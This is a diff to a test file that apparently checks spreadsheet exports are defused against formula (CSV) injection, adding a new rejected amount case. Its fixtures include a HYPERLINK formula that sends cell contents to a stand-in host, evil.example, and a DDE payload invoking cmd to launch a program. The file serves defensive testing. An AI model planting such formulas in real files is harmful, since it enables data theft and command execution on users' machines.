@@ -25,7 +25,7 @@ const hostileIds = ['X;=1+1;Y', '=HYPERLINK("http://evil.example/?"&A1,"Pay")', 
 /** As the exports hold them: whole, with an apostrophe before each formula start. */
 const defusedIds = ["X;'=1+1;Y", `'=HYPERLINK("http://evil.example/?"&A1,"Pay")`, "'@SUM(1)", '"q"', "'+1-1;'-2", `ok,'=cmd|"/c calc"!A0`, 'a\tb', "line\n'=2+2"];
 /** Amounts refused at ingest: rejects.csv echoes them. */
-const rejectedAmounts = ['=1+1', '-12.50'];
+const rejectedAmounts = ['=1+1', '-12.50', '5;=1+1'];
 
 /** A formula start: what Excel, LibreOffice or Numbers would run. */
 const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
@@ -92,7 +92,7 @@ describe('exports open in a spreadsheet as text, never as formulas', () => {
       for (const id of defusedIds) expect(csv).toContain(`"${id.replaceAll('"', '""')}"`);
     }
     if (name === 'rejects.csv') {
-      expect(cells).toEqual(expect.arrayContaining(["'=1+1", '-12.50']));
+      expect(cells).toEqual(expect.arrayContaining(["'=1+1", '-12.50', "5;'=1+1"]));
       // A plain number stays a plain number, unquoted.
       expect(csv).toContain(',-12.50,');
     }
